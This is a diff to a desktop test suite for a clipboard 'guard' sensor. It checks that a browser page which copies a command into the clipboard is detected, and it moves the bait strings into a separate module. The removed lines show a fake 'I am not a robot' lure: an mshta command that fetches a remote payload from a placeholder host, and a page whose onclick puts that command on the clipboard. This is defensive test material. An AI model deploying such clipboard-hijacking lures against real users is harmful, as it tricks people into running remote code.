@@ -17,6 +17,7 @@ from guard.sensors import name_of
 from guard.sensors.clipboard import ClipboardSensor, sensor
 from knowing import library, mind
 from listening import listening
+from pushed import BAIT, COPIES
 from served import served
 
 if sys.platform != "linux":
@@ -29,7 +30,6 @@ from guard.sensors.clipboard import x11
 
 pytestmark = pytest.mark.desktop
 
-BAIT = "mshta https://check.example/a # I am not a robot"
 COMMANDS = CommandBook(library().knowledge.commands)
 KNOWN = Browsers(library().knowledge.browsers)
 HERE = Browsers([Browser(name="Here", programs=(name_of(os.getpid()),), source=("test",))])
@@ -254,9 +254,7 @@ def test_what_was_copied_before_the_guard_is_nobodys(screen):
 
 @pytest.mark.timeout(240)
 def test_a_page_of_chromium_that_copies_a_command_is_known(screen):
-    script = f"navigator.clipboard.writeText('{BAIT}')"
-    page = f'<title>Check</title><body style="height:90vh" onclick="{script}">I am no robot</body>'
-    with served({"/": page}) as site, heard_on(screen, KNOWN) as heard:
+    with served({"/": COPIES}) as site, heard_on(screen, KNOWN) as heard:
         browser = screen.browse("chromium", site)
         until(lambda: screen.ask("xdotool", "search", "--name", "^Check - Chromium"), 90)
 
